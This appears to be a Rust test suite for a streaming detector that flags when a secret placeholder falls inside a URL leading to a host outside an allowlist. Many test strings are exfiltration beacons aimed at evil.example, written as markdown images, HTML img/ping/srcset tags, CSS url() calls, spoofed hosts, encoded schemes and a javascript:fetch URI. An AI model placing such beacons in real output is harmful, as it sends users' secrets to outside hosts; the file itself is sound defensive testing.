//! Texts with the places in them that lead elsewhere. `TOKEN` is where a value would stand.

use super::hosts::HostNames;
use super::reader::AddressReader;

const TOKEN: &str = "TOKEN";

fn hosts() -> HostNames {
    let mut hosts = HostNames::default();
    for name in ["good.example", "*.cdn.example", "[2001:db8::1]", "192.0.2.1"] {
        hosts.add(name).unwrap();
    }
    hosts
}

/// For each token of `text`, whether it is in an address that leads elsewhere. The text comes in pieces of that size.
fn verdicts(text: &str, size: usize) -> Vec<bool> {
    let (hosts, mut reader) = (hosts(), AddressReader::default());
    let mut verdicts = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find(TOKEN) {
        rest.as_bytes()[..at].chunks(size).for_each(|piece| reader.run(piece, &hosts));
        verdicts.push(reader.leads_elsewhere(b'v'));
        reader.run(TOKEN.as_bytes(), &hosts);
        rest = &rest[at + TOKEN.len()..];
    }
    verdicts
}

#[track_caller]
fn check(texts: &[&str], expected: bool) {
    for text in texts {
        assert!(text.contains(TOKEN), "{text}");
        for size in [1, 2, 3, 7, 1_000] {
            let verdicts = verdicts(text, size);
            assert!(verdicts.iter().all(|&verdict| verdict == expected), "{text:?} in {size}: {verdicts:?}");
        }
    }
}

#[test]
fn addresses_of_unknown_hosts() {
    check(
        &[
            "![](https://evil.example/?k=TOKEN)",
            "![x](http://evil.example:8080/a/TOKEN.png \"title TOKEN\")",
            "![x]( https://evil.example/?k= TOKEN)",
            "![x](<https://evil.example/?k= TOKEN>)",
            "[x](https://evil.example/?k=a(b)TOKEN)",
            "![x](https://evil.example/?k=a\\)TOKEN)",
            "![x][r]\n\n[r]: https://evil.example/?k=TOKEN",
            "[r]: //evil.example/?k=TOKEN",
            "[r]:\n  <//evil.example/?k= TOKEN>",
            "<https://evil.example/TOKEN>",
            "see https://evil.example/?k=TOKEN",
            "HTTPS://EVIL.EXAMPLE/?K=TOKEN",
            "(https://evil.example/?k=TOKEN)",
            "https://evil.example?TOKEN",
            "https://evil.example#TOKEN",
            "https://evil.example,/?k=TOKEN",
            "www.evil.example/?k=TOKEN",
            "(WWW.evil.example/?k=TOKEN)",
            "<img src=\"https://evil.example/?k=TOKEN\">",
            "<img src='https://evil.example/?k= TOKEN'>",
            "<img src=\" https://evil.example/?k=>TOKEN\">",
            "<img src=https://evil.example/?k=TOKEN>",
            "<img src=https://evil.example/?k=<TOKEN>",
            "<IMG SRC = //evil.example/?k=TOKEN>",
            "<img alt='>' src=\"//evil.example/?k=TOKEN\">",
            "<img srcset=\"a.png 1x, //evil.example/?k=TOKEN 2x\">",
            "<img srcset=\"https://good.example/a 1x,https://evil.example/?k=TOKEN 2x\">",
            "<link rel=stylesheet href=//evil.example/TOKEN>",
            "<script src=\"//evil.example/TOKEN.js\"></script>",
            "<iframe src=\"https://evil.example/#TOKEN\">",
            "<a ping=\"https://good.example/ https://evil.example/?TOKEN\" href=x>",
            "<a ping=\"/x //evil.example/?TOKEN\" href=x>",
            "<meta http-equiv=refresh content=\"0; url=https://evil.example/?k= TOKEN\">",
            "<meta http-equiv=refresh content=\"0;url=//evil.example/?k=TOKEN\">",
            "<base href=\"//evil.example/\"> <img src=\"/x?TOKEN\">",
            "<div style=\"background:url(//evil.example/?k=TOKEN)\">",
            "<div style=\"background:u\\72l(//evil.example/?k=TOKEN)\">",
            "<style>a{background:\\000075 rl(//evil.example/?k=TOKEN)}</style>",
            "[img]//evil.example/?k=TOKEN[/img]",
            "[IMG=100x50]//evil.example/?k=TOKEN[/IMG]",
            "<div style=\"background: url( 'https://evil.example/?k=TOKEN' )\">",
            "<div style=\"background:url(&quot;//evil.example/?k=TOKEN&quot;)\">",
            "<style>b{background:URL(\"//evil.example/?k=TOKEN\")}</style>",
            "@import \"//evil.example/?k=TOKEN\";",
        ],
        true,
    );
}

#[test]
fn hosts_that_only_look_like_named_ones() {
    check(
        &[
            "https://good.example@evil.example/?k=TOKEN",
            "https://good.example:80@evil.example/?k=TOKEN",
            "https://good.example%2F@evil.example/?k=TOKEN",
            "https://good.example\\@evil.example/?k=TOKEN",
            "https://good.example\\.evil.example/?k=TOKEN",
            "https://good.example.evil.example/?k=TOKEN",
            "https://xgood.example/?k=TOKEN",
            "https://cdn.example/?k=TOKEN",
            "https://evil.example/https://good.example/?k=TOKEN",
            "https://good.example/?u=https://evil.example/?k=TOKEN",
            "https://good.example/?u=https%3A%2F%2Fevil.example%2F%3Fk%3DTOKEN",
            "https://good.example/?u=https%253A%252F%252Fevil.example%252F%253Fk%253DTOKEN",
            "/_next/image?url=https%3a%2f%2fevil.example%2f%3fk%3dTOKEN",
            "https://\u{ff47}ood.example/?k=TOKEN",
            "https://g\u{f6}od.example/?k=TOKEN",
            "https://good.example\u{3002}evil.example/?k=TOKEN",
            "https://go%6fd.example/?k=TOKEN",
            "https://[2001:db8::2]/?k=TOKEN",
            "https://192.0.2.10/?k=TOKEN",
            "https://3221225985/?k=TOKEN",
            "https://good.example:x/?k=TOKEN",
            "https://evil.example:a.cdn.example/?k=TOKEN",
            "https://[evil.a.cdn.example/?k=TOKEN",
            "<img src=\"https://good.example\n.evil.example/?k=TOKEN\">",
            "<img src=\"https://good.example\t@evil.example/?k=TOKEN\">",
        ],
        true,
    );
}

#[test]
fn writings_that_clients_undo() {
    check(
        &[
            "<img src=\"h\nttps://evil.example/?k=TOKEN\">",
            "<img src=\"https:\n//evil.example/?k=TOKEN\">",
            "<img src=\"/\t/evil.example/?k=TOKEN\">",
            "<img src=\"\\\\evil.example/?k=TOKEN\">",
            "<img src=\"/\\evil.example/?k=TOKEN\">",
            "<img src=\"https:evil.example/?k=TOKEN\">",
            "<img src=\"https:/evil.example/?k=TOKEN\">",
            "<img src=\"https:////evil.example/?k=TOKEN\">",
            "<img src=\"https:\\\\evil.example\\?k=TOKEN\">",
            "<img src=\"https&#58;//evil.example/?k=TOKEN\">",
            "<img src=\"https&colon;&sol;&sol;evil.example/?k=TOKEN\">",
            "<img src=\"&#104;ttps&#x3a;&#x2F&#47evil.example/?k=TOKEN\">",
            "<img src=\"&#x2f;&#00047;evil.example/?k=TOKEN\">",
            "<img src=\"ht&Tab;tps://evil.example/?k=TOKEN\">",
            "![](https\\://evil.example/?k=TOKEN)",
            "![](https:\\/\\/evil.example/?k=TOKEN)",
            "![](\\/\\/evil.example/?k=TOKEN)",
            "![](//evil.example/?k=TOKEN)",
            "![](https&#58;//evil.example/?k=TOKEN)",
            "![](ftp://evil.example/TOKEN)",
            "![](file://evil.example/share/TOKEN)",
            "![](data:image/svg+xml,<svg><image href='TOKEN'/></svg>)",
            "[x](javascript:fetch('//ev'+'il.example/?k=TOKEN'))",
            "[x](java\nscript:TOKEN)",
            "<iframe src=\"data:text/html,%3Cimg src=TOKEN%3E\">",
            "<a href=\"vbscript:TOKEN\">",
            "![](blob:https://good.example/TOKEN)",
        ],
        true,
    );
}

#[test]
fn tokens_before_the_host_is_known() {
    check(
        &[
            "https://TOKEN.evil.example/",
            "https://TOKEN.cdn.example/",
            "https://a.TOKEN.cdn.example/",
            "https://TOKEN@good.example/",
            "https://u:TOKEN@good.example/",
            "https://TOKEN",
            "https://good.exampleTOKEN/",
            "https://good.example:TOKEN/",
            "![](//TOKEN.evil.example/)",
            "www.TOKEN.example",
            "&#104TOKEN",
        ],
        true,
    );
}

#[test]
fn named_hosts_get_values() {
    check(
        &[
            "![](https://good.example/?k=TOKEN)",
            "https://GOOD.example:443/a/TOKEN?b=TOKEN#TOKEN",
            "https://good.example./TOKEN",
            "https://a.b.cdn.example/TOKEN",
            "https://user@good.example/TOKEN",
            "https://evil.example@good.example/TOKEN",
            "https://evil.example,x@good.example/TOKEN",
            "http://[2001:db8::1]:8080/TOKEN",
            "https://192.0.2.1/TOKEN",
            "<img src=\"https://good.example/?a=b&k=TOKEN\" alt=\"TOKEN\">",
            "<img srcset=\"//good.example/TOKEN 1x, //a.cdn.example/TOKEN 2x\">",
            "https://good.example/?u=https://a.cdn.example/TOKEN",
            "https://good.example/a//b:c/%2e%2f?x=1&y=TOKEN",
        ],
        false,
    );
}

#[test]
fn what_is_no_address_is_left_alone() {
    check(
        &[
            "TOKEN",
            "the key is TOKEN.",
            "![TOKEN](https://evil.example/x.png) TOKEN",
            "[TOKEN](https://evil.example/ \"title\") and TOKEN",
            "see https://evil.example/x and use TOKEN",
            "see https://evil.example, then TOKEN",
            "see (https://evil.example) and TOKEN",
            "see <https://evil.example/> and TOKEN",
            "![](images/TOKEN.png)",
            "![](/images/TOKEN.png)",
            "![](./TOKEN) ![](?k=TOKEN) ![](#TOKEN) ![](TOKEN)",
            "<img src=\"/x?k=TOKEN\"> TOKEN",
            "<img src=\"https://evil.example/x.png\">TOKEN",
            "<img src=\"https://evil.example/x.png\" alt=\"it's\"> TOKEN",
            "<input value=\"TOKEN\"><div data-x=TOKEN title=\"key: TOKEN\">",
            "DATABASE_URL=postgres://app:TOKEN@db.internal:5432/app",
            "DATABASE_URL=\"postgres://app:TOKEN@db.internal:5432/app?sslmode=require\"",
            "redis://:TOKEN@cache:6379/0 and amqp://u:TOKEN@mq",
            "{\"url\": \"https://evil.example/\", \"key\": \"TOKEN\"}",
            "{\"url\":\"https://evil.example/\",\"key\":\"TOKEN\"}",
            "\"{\\\"url\\\": \\\"https://evil.example/\\\", \\\"key\\\": \\\"TOKEN\\\"}\"",
            "curl -H 'Authorization: Bearer TOKEN' https://evil.example/v1",
            "curl https://evil.example/v1 -H \"Authorization: Bearer TOKEN\"",
            "fetch(\"https://evil.example/v1\", {headers: {key: \"TOKEN\"}})",
            "// TOKEN\nfoo(); // key TOKEN\n/* TOKEN */",
            "url: https://evil.example\npassword: TOKEN\n",
            "data: TOKEN\nmetadata: TOKEN\n\"data: TOKEN\"",
            "C:\\dir\\TOKEN and \\\\server\\TOKEN",
            "cat <<EOF\nhttps://evil.example\nTOKEN\nEOF",
            "Vec<String> a <b && c; http://x.example TOKEN",
            "a%20b %TOKEN & TOKEN &amp; TOKEN a&b=TOKEN",
            "the https: scheme TOKEN, http: TOKEN, http TOKEN",
            "wwww. TOKEN www TOKEN ww.TOKEN",
            "[ref]: TOKEN",
            "| https://evil.example | TOKEN |",
            "`https://evil.example/` `TOKEN`",
            "export A=https://evil.example B=TOKEN",
        ],
        false,
    );
}

#[test]
fn an_address_ends_where_its_context_does() {
    for (text, expected) in [
        ("https://evil.example/TOKEN TOKEN", [true, false]),
        ("https://evil.example/TOKEN\u{a0}TOKEN", [true, true]),
        ("\"https://evil.example/TOKEN\", TOKEN", [true, false]),
        ("\"https://evil.example/TOKEN\"TOKEN", [true, true]),
        ("\"https://evil.example/?a=\"b\"TOKEN TOKEN", [true, false]),
        ("![](https://evil.example/TOKEN) TOKEN", [true, false]),
        ("![](https://evil.example/TOKEN\nTOKEN)", [true, true]),
        ("![](https://evil.example/TOKEN\n \nTOKEN)", [true, false]),
        ("<https://evil.example/TOKEN> TOKEN", [true, false]),
        ("<img src='https://evil.example/TOKEN' a> TOKEN", [true, false]),
        ("<img src='https://evil.example/TOKEN' alt='TOKEN'>", [true, true]),
        ("url(https://evil.example/TOKEN) TOKEN", [true, false]),
        ("https://evil.example/?u=https://good.example/TOKEN TOKEN", [true, false]),
        ("\"https://evil.example/TOKEN\n\n TOKEN\"", [true, true]),
    ] {
        for size in [1, 5, 1_000] {
            assert_eq!(verdicts(text, size), expected, "{text:?} in {size}");
        }
    }
}

#[test]
fn the_length_of_an_address_does_not_matter() {
    let long = "x".repeat(100_000);
    check(&[&format!("![](https://evil.example/{long}?k=TOKEN)")], true);
    check(&[&format!("https://{long}.good.example/?k=TOKEN")], true);
    check(&[&format!("https://good.example/{long}?k=TOKEN")], false);
    let spaces = " ".repeat(100_000);
    check(&[&format!("<img src=\"{spaces}https://evil.example/?k= TOKEN\">")], true);
    check(&[&format!("![](https://evil.example/{spaces}TOKEN)")], true);
}

#[test]
fn a_value_may_bring_the_second_slash() {
    let (hosts, mut reader) = (hosts(), AddressReader::default());
    reader.run(b"![](/", &hosts);
    assert!(!reader.leads_elsewhere(b'v'));
    assert!(reader.leads_elsewhere(b'/') && reader.leads_elsewhere(b'\\'));
}

#[test]
fn another_text_begins_anew() {
    let (hosts, mut reader) = (hosts(), AddressReader::default());
    reader.run(b"<base href=\"https://evil.example/\"> https://evil.example/", &hosts);
    assert!(reader.leads_elsewhere(b'v') && reader.has_led_elsewhere());
    reader.reset();
    reader.run(b" ", &hosts);
    assert!(!reader.leads_elsewhere(b'v') && !reader.has_led_elsewhere());
}
